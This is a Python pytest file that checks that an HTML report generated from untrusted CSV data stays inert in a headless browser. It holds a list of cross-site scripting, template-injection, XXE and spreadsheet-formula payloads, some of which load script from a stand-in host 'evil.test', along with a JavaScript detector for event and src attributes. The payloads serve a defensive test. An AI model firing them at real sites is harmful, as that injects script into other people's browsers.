"""Names and values from outside, made to be taken for markup, do nothing in a browser."""

from __future__ import annotations

import csv
import unicodedata
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from bce_cli.errors import safe_text
from tests.browser.chromium import ADDRESS, WIDTH, WIDTH_BETWEEN_MARGINS, evaluated

if TYPE_CHECKING:
    from collections.abc import Callable

    from typer.testing import Result

    from tests.browser.conftest import Show

    Bce = Callable[..., Result]

pytestmark = pytest.mark.deep

SEGMENTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title></style></script></svg></details><script src=//evil.test/x.js></script>",
    "<svg/onload=alert(1)><a xlink:href='javascript:alert(1)'>",
    "\"' onmouseover=alert(1) style=background:url(//evil.test/x) x='\"",
    "--><!-- ]]><!DOCTYPE x [<!ENTITY y SYSTEM '//evil.test/y'>]>&y;",
    "{{ 7 * 7 }}{% include 'page.html.jinja' %}{# x #}",
    "javascript:alert(1)",
    "&lt;b&gt; &amp; &#60;i&#62;",
    "left\u202egnihton\u202cright \u2066x\u2069 \u200b\x1b[31m\x07",
    "=HYPERLINK(1)",
)
"""What opens, closes, escapes, loads, turns around or calculates."""
LABEL, OLD, NEW, ID, BY, CLUSTER = (
    *("<b>y</b>", "'\"><script>alert(2)</script>", "javascript:alert(3)//"),
    *(
        "</caption><th onclick=alert(4)>",
        "<style>*{display:none}</style>",
        "</pre><base href=//evil.test>",
    ),
)
FILE = "<iframe srcdoc=x>&'\"{{x}}.csv"

TAGS = {
    *("html", "head", "meta", "title", "style", "body", "main", "nav", "section", "div", "span"),
    *("h1", "h2", "h3", "p", "ol", "li", "a", "mark", "pre", "details", "summary"),
    *("table", "caption", "thead", "tbody", "tr", "th", "td", "code"),
    *("figure", "figcaption", "svg", "desc", "path", "g", "text", "img"),
}
LOUD = """() => [...document.querySelectorAll("*")].flatMap(element =>
  [...element.attributes].filter(({name, value}) =>
    name.startsWith("on") || name == "style"
    || name.endsWith("src") && !value.startsWith("data:image/png;base64,")
    || name.endsWith("href") && !value.startsWith("#")
  ).map(({name, value}) => `${name}=${value}`))"""

NAMES_OF_SEGMENTS = """() => [...document.querySelectorAll("#segments tbody th")].map(
  cell => cell.querySelector("[title]")?.title ?? cell.textContent)"""

WIDEST_NAME = """() => Math.max(...[...document.querySelectorAll("#segments tbody th")].map(
  cell => cell.clientWidth / parseFloat(getComputedStyle(cell).fontSize)))"""
"""How wide the first column is, in the size of its letters."""


@pytest.fixture
def hostile(bce: Bce) -> Callable[..., str]:
    """Make a report of which every name and value is hostile."""
    with Path(FILE).open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow([ID, CLUSTER, BY, LABEL, OLD, NEW])
        for i in range(220):
            text = SEGMENTS[i % len(SEGMENTS)]
            place = i * 37 % 220
            probabilities = (0.02 + place / 240, 0.3 + place / 500)
            label = int(place + i * 61 % 97 > 150)
            writer.writerow([f"{text} {i}", f"{text} {i % 20}", text, label, *probabilities])

    def made(*options: str) -> str:
        columns = ("-l", LABEL, "-p", OLD, "-p", NEW, "--id", ID, "--by", BY, "--cluster", CLUSTER)
        found = bce("report", FILE, *columns, "--worst", "20", "--max-loss", "0.4", *options)
        assert found.exit_code in {0, 3}, found.stderr
        return found.stdout

    return made


@pytest.mark.parametrize("pictures", ["svg", "png"])
def test_strings_from_outside_do_nothing(
    show: Show, hostile: Callable[..., str], pictures: str
) -> None:
    html = hostile("--picture-format", pictures)
    shown = show(html)
    tags = evaluated(shown, "() => [...document.querySelectorAll('*')].map(e => e.localName)")
    assert (shown.messages, shown.requests) == ([], [ADDRESS])
    assert set(tags) <= TAGS
    assert evaluated(shown, LOUD) == []
    controls = {c for c in html if c != "\n" and unicodedata.category(c) in {"Cc", "Cf"}}
    assert controls == set()


def test_strings_from_outside_are_shown_as_they_are_and_have_room(
    show: Show, hostile: Callable[..., str]
) -> None:
    shown = show(hostile(), width=390)
    assert evaluated(shown, WIDTH) == 390
    names = evaluated(shown, NAMES_OF_SEGMENTS)
    assert {*names} == {*map(safe_text, SEGMENTS)}
    shown.page.set_viewport_size({"width": WIDTH_BETWEEN_MARGINS, "height": 900})
    shown.page.emulate_media(media="print")
    assert evaluated(shown, WIDTH) == WIDTH_BETWEEN_MARGINS


def test_a_long_name_leaves_figures_in_view(show: Show, hostile: Callable[..., str]) -> None:
    shown = show(hostile())
    assert evaluated(shown, WIDEST_NAME) < 24
    shown.page.set_viewport_size({"width": 390, "height": 900})
    assert evaluated(shown, WIDEST_NAME) < 12
